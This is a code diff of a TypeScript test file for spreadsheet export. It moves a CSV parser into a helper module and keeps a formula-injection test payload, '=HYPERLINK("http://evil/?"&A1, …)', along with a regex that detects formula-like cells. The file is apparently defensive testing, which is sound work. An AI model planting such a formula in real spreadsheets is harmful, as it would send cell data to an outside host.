@@ -1,6 +1,7 @@
 import ExcelJS from 'exceljs'
 import type { SimWorld } from '../../src/sim/world'
 import { openLink, signInLink } from '../helpers/console'
+import { parseCsv } from '../helpers/csv'
 import { play, textIn } from '../helpers/scenario'
 
 /**
@@ -10,36 +11,6 @@ import { play, textIn } from '../helpers/scenario'
  */
 
 const FORMULA = '=HYPERLINK("http://evil/?"&A1,"点我")'
-
-/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
-export function parseCsv(text: string): string[][] {
-  const rows: string[][] = []
-  let row: string[] = []
-  let cell = ''
-  let quoted = false
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        cell += '"'
-        i++
-      } else if (ch === '"') quoted = false
-      else cell += ch
-    } else if (ch === '"') quoted = true
-    else if (ch === ',') {
-      row.push(cell)
-      cell = ''
-    } else if (ch === '\r' && text[i + 1] === '\n') {
-      row.push(cell)
-      rows.push(row)
-      row = []
-      cell = ''
-      i++
-    } else cell += ch
-  }
-  if (cell || row.length) rows.push([...row, cell])
-  return rows
-}
 
 /** What a spreadsheet would read as a formula: the first character, or the first after white space. */
 const formulaLike = (cell: string) => /^[\s\u3000]*[=+\-@\t\r]/.test(cell)
